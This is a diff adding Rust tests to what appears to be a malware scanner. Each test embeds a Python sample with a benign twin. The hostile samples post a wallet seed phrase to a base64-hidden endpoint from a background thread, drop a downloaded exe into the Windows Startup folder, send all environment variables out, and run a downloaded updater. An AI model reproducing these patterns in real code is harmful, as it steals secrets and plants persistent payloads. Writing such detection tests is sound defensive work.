@@ -289,3 +289,112 @@ def push(hook):
     let f = run("pkg/cfg.py", FileRole::Module, benign);
     assert!(critical(&f).is_empty(), "{f:#?}");
 }
+
+#[test]
+fn wallet_phrase_posted_to_an_encoded_endpoint_from_a_thread_is_critical() {
+    let src = r#"
+import base64, threading, requests
+_ENDPOINT = "aHR0cDovLzEyNy4wLjAuMTo5L2xvZw=="
+
+def _endpoint():
+    return base64.b64decode(_ENDPOINT).decode()
+
+def _log_async(mnemonic_phrase):
+    def _log():
+        try:
+            url = _endpoint()
+            requests.post(url, json={"mnemonic": mnemonic_phrase}, timeout=3)
+        except Exception:
+            pass
+    threading.Thread(target=_log, daemon=True).start()
+
+def import_wallet(mnemonic_phrase):
+    _log_async(mnemonic_phrase)
+    return mnemonic_phrase.split()
+"#;
+    let f = run("walletkit/core.py", FileRole::Module, src);
+    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
+    // the same helper posting a balance query to the RPC URL it is given
+    let benign = "import requests\ndef balance(rpc_url, address):\n    return requests.post(rpc_url, json={'method': 'eth_getBalance', 'params': [address]}).json()\n";
+    assert!(critical(&run("walletkit/rpc.py", FileRole::Module, benign)).is_empty());
+}
+
+
+#[test]
+fn download_written_to_an_autostart_folder_is_critical() {
+    let src = r#"
+import os, requests
+def setup_startup():
+    startup = os.path.join(os.getenv("APPDATA"), "Microsoft\\Windows\\Start Menu\\Programs\\Startup", "helper.exe")
+    with open(startup, "wb") as file:
+        file.write(requests.get("http://127.0.0.1:9/helper.exe").content)
+"#;
+    let f = run("tool/boot.py", FileRole::Module, src);
+    assert!(critical(&f).contains(&"download-exec"), "{f:#?}");
+    // a CLI writing its own completion line to the user's shell profile when asked
+    let benign = "import os\ndef install_completion():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n        f.write('eval \"$(tool completion bash)\"\\n')\n";
+    let f = run("tool/completion.py", FileRole::Module, benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn environment_sent_by_a_helper_to_the_url_its_caller_fixes_is_critical() {
+    let src = r#"
+import os, json, socket, urllib.request
+
+def send_system_info(url):
+    data = {"hostname": socket.gethostname(), "environment_variables": dict(os.environ)}
+    req = urllib.request.Request(url, data=json.dumps(data).encode())
+    urllib.request.urlopen(req)
+
+def main():
+    send_system_info("http://127.0.0.1:9/json")
+"#;
+    let f = run("tool/cli.py", FileRole::Module, src);
+    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
+    // a telemetry helper whose endpoint the user configures
+    let benign = r#"
+import os, json, urllib.request
+
+def send_report(url, payload):
+    req = urllib.request.Request(url, data=json.dumps(payload).encode())
+    urllib.request.urlopen(req)
+
+def main(config):
+    send_report(config["endpoint"], {"version": "1.0"})
+    send_report("https://telemetry.example.org/v1", {"version": "1.0"})
+"#;
+    let f = run("tool/telemetry.py", FileRole::Module, benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn download_handed_to_a_program_through_a_helper_is_not_run() {
+    // a media tool remuxing a fetched file: the download is the tool's input
+    let benign = r#"
+import subprocess, urllib.request
+def remux(infile, outfile, muxer="ffmpeg"):
+    for tool in set([muxer, "ffmpeg", "avconv"]):
+        subprocess.call([tool, "-y", "-i", infile, "-acodec", "copy", outfile])
+def download(url, path):
+    tmp = path + ".part"
+    with open(tmp, "wb") as out:
+        out.write(urllib.request.urlopen(url).read())
+    remux(tmp, path, muxer="ffmpeg")
+"#;
+    let f = run("media/stream.py", FileRole::Module, benign);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+    // the same helper shape where the download is the program
+    let src = r#"
+import subprocess, urllib.request
+def launch(exe, flag="/S"):
+    subprocess.call([exe, flag])
+def update(url):
+    tmp = "update.exe"
+    with open(tmp, "wb") as out:
+        out.write(urllib.request.urlopen(url).read())
+    launch(tmp)
+"#;
+    let f = run("tool/updater.py", FileRole::Module, src);
+    assert!(critical(&f).contains(&"download-exec"), "{f:#?}");
+}
